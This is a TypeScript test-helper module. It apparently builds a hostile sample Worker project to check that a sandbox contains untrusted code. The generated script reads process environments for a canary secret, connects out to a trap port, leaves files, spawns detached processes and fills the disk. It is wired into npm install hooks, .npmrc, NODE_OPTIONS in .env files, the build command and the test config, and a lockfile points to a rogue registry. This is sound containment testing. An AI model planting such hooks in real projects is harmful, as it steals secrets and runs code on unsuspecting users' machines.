import { once } from 'node:events'
import { readdirSync, readFileSync } from 'node:fs'
import { createServer as createHttpServer } from 'node:http'
import { createServer, type AddressInfo } from 'node:net'
import path from 'node:path'
import { onTestFinished } from 'vitest'
import { blankProject } from '../../src/generators/project/blank-project.ts'
import { temporaryFolder } from './repository.ts'

/** Where a hostile project would be seen, if it got out of where it runs. */
export interface Traps {
  /** A word in the environment of whoever proves. */
  canary: string
  port: number
  /** A folder that anybody may write to; what runs leaves a file there. */
  folder: string
  /** What arrived at the port. */
  reached: readonly string[]
}

/** Seconds that the processes sleep which it starts: nothing else here sleeps as long. */
const sleeps = '98711'

/** Opens a port, a folder and an environment for the time of a test. */
export async function setTraps(): Promise<Traps> {
  const reached: string[] = []
  const server = createServer((socket) => {
    reached.push('connected')
    socket.on('data', (data) => reached.push(String(data))).on('error', () => undefined)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  return { canary: 'canary-5d20e1', port: (server.address() as AddressInfo).port, folder: temporaryFolder(), reached }
}

/** Command lines of processes that a hostile project started and that still run. */
export function leftRunning(): readonly string[] {
  return readdirSync('/proc').flatMap((pid) => {
    try {
      const line = /^\d+$/.test(pid) ? readFileSync(`/proc/${pid}/cmdline`, 'utf8') : ''
      return line.split('\0').includes(sleeps) ? [line] : []
    } catch {
      return []
    }
  })
}

/** What it does wherever it runs: looks for the word, dials, leaves a file, starts processes and fills the disk. */
function attack({ canary, port, folder }: Traps): string {
  const word = JSON.stringify([canary.slice(0, 7), canary.slice(7)])
  return `import fs from 'node:fs'
import net from 'node:net'
import { spawn } from 'node:child_process'
const attempt = (work) => { try { return String(work()) } catch (error) { return error.code ?? String(error) } }
const dial = () => new Promise((resolve) => {
  const socket = new net.Socket()
  socket.on('error', (error) => resolve(error.code)).on('connect', () => { socket.end(process.argv.join(' ')); resolve('connected') })
  socket.connect({ host: '127.0.0.1', port: ${port} })
})
export async function attack() {
  const environments = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).map((pid) => attempt(() => fs.readFileSync('/proc/' + pid + '/environ', 'utf8')))
  const canary = ${word}.join('')
  const seen = {
    attack: 'ran',
    hasCanary: environments.join().includes(canary) || JSON.stringify(process.env).includes(canary),
    left: attempt(() => fs.writeFileSync(${JSON.stringify(path.join(folder, 'ran-'))} + process.pid, 'here')),
    dialled: await dial(),
  }
  for (let i = 0; i < 40; i += 1) spawn('/bin/sleep', ['${sleeps}'], { detached: true, stdio: 'ignore' }).on('error', () => undefined).unref()
  seen.filled = attempt(() => { for (let i = 0; i < 600; i += 1) fs.appendFileSync('fill', Buffer.alloc(1_000_000)) })
  fs.rmSync('fill', { force: true })
  return seen
}
if (process.argv[1]?.endsWith('attack.mjs')) console.error(JSON.stringify(await attack()))
`
}

/** A lockfile of npm, with the registry that each package is of. */
function lockfileOf(dependencies: Record<string, string>, registryOf: (name: string) => string): string {
  const integrity = `sha512-${Buffer.alloc(64, 1).toString('base64')}`
  const entries = Object.entries(dependencies).map(([name, version]) => {
    const resolved = `${registryOf(name)}${name}/-/${name.split('/').at(-1)}-${version}.tgz`
    return [`node_modules/${name}`, { version, resolved, integrity }]
  })
  const packages = { '': { name: 'worker', version: '0.1.0', hasInstallScript: true, dependencies }, ...Object.fromEntries(entries) }
  return `${JSON.stringify({ name: 'worker', version: '0.1.0', lockfileVersion: 3, requires: true, packages }, null, 2)}\n`
}

/** A Worker in the folder \`worker\` whose build, configuration, tests, scripts and settings of npm all attack; \`tells\` lets its test fail with what it saw once there is a new route. */
export function hostileProject(traps: Traps, { tells = false, lures = false } = {}): Record<string, string> {
  const blank = Object.fromEntries(blankProject('worker', { root: '', files: new Map(), listed: new Set() }).pack.files)
  const config = JSON.parse(blank['wrangler.jsonc'] ?? '{}') as object
  const manifest = JSON.parse(blank['package.json'] ?? '{}') as Record<'dependencies' | 'devDependencies', Record<string, string>>
  const { zod: _, ...dependencies } = { ...manifest.dependencies, ...manifest.devDependencies }
  const scripts = Object.fromEntries(
    ['preinstall', 'install', 'postinstall', 'prepare', 'pretest', 'test', 'types'].map((name) => [name, 'node attack.mjs']),
  )
  const elsewhere = `http://127.0.0.1:${traps.port}/`
  const files = {
    ...blank,
    'attack.mjs': attack(traps),
    'package.json': JSON.stringify({ name: 'worker', version: '0.1.0', private: true, type: 'module', scripts, dependencies }, null, 2),
    'package-lock.json': lockfileOf(dependencies, (name) => (lures && name === 'hono' ? elsewhere : 'https://registry.npmjs.org/')),
    '.npmrc': `registry=${elsewhere}\nignore-scripts=false\nscript-shell=${traps.folder}/attack\n`,
    '.dev.vars': 'NODE_OPTIONS=--import=./attack.mjs\n',
    '.env': 'NODE_OPTIONS=--import=./attack.mjs\n',
    'wrangler.jsonc': JSON.stringify({ ...config, build: { command: 'node attack.mjs' } }, null, 2),
    'vitest.config.ts': `import { attack } from './attack.mjs'\nawait attack()\n${blank['vitest.config.ts'] ?? ''}`,
    'test/attack.test.ts': `import { existsSync } from 'node:fs'
import { expect, test } from 'vitest'
import { attack } from '../attack.mjs'
test('attacks', async () => {
  const seen = JSON.stringify(await attack())
  if (${tells} && existsSync('src/routes/things.ts')) throw new Error(seen)
  expect(seen).toContain('ran')
}, 60_000)
`,
    'attack.d.mts': 'export declare function attack(): Promise<object>\n',
  }
  return Object.fromEntries(Object.entries(files).map(([name, text]) => [`worker/${name}`, text]))
}

/** A registry that has every version of every package that it is asked for, without dependencies; gives its address and who was asked for. */
export async function openRegistry(version: string): Promise<{ origin: string; asked: readonly string[] }> {
  const asked: string[] = []
  const integrity = `sha512-${Buffer.alloc(64, 2).toString('base64')}`
  const server = createHttpServer((request, response) => {
    const name = decodeURIComponent((request.url ?? '/').slice(1))
    asked.push(name)
    const dist = { integrity, tarball: `${origin}${name}/-/package.tgz` }
    response.end(JSON.stringify({ name, 'dist-tags': { latest: version }, versions: { [version]: { name, version, dist } } }))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  return { origin, asked }
}
